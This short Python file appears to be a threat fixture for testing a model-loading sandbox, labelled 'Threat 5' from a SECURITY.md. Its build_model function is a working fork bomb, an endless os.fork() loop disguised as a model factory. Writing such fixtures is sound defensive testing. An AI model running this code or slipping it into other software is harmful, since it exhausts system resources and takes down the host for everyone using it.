"""Threat 5 (SECURITY.md): a fork bomb."""

import os

import numpy as np


def build_model():
    while True:
        os.fork()
    return lambda x: np.zeros((len(x), 10), dtype=np.float32)
